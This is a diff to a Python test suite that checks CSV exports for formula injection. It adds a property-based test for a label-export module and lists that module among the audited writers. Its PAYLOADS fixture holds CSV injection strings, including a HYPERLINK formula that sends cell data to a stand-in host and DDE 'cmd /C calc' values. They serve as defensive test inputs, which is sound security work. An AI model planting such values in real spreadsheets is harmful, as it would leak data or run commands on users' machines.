@@ -198,7 +198,9 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection
 NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-AUDITED_CSV_WRITERS = {"review_app/export.py", "digest/render.py", "pipeline/csv_scoring.py"}
+AUDITED_CSV_WRITERS = {
+    "review_app/export.py", "digest/render.py", "pipeline/csv_scoring.py", "pipeline/label_export.py",
+}
 
 
 def dangerous_cells(data: str) -> list[str]:
@@ -268,3 +270,18 @@ def test_scored_csv_neutralises_attacker_text(tmp_path: Path, monkeypatch: pytes
         writer.writerows([[payload, payload] for payload in PAYLOADS])
     assert score.score_csv(Constant(), FeatureExtractor(), source, target) == len(PAYLOADS)  # type: ignore[arg-type]
     assert dangerous_cells(target.read_text(encoding="utf-8")) == []
+
+
+@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=40)), min_size=1, max_size=12))
+def test_label_export_csv_neutralises_every_cell(values: list[str]) -> None:
+    """pipeline.label_export.write_export (`lurewatch labels export OUT.csv`) over rows whose every field is
+    attacker text (ad texts, notes)."""
+    import tempfile
+
+    from pipeline.label_export import EXPORT_COLUMNS, write_export
+
+    rows = [{column: value for column in EXPORT_COLUMNS} for value in values]
+    with tempfile.TemporaryDirectory() as folder:
+        target = Path(folder) / "labels.csv"
+        write_export(target, rows, "csv")
+        assert dangerous_cells(target.read_text(encoding="utf-8")) == []
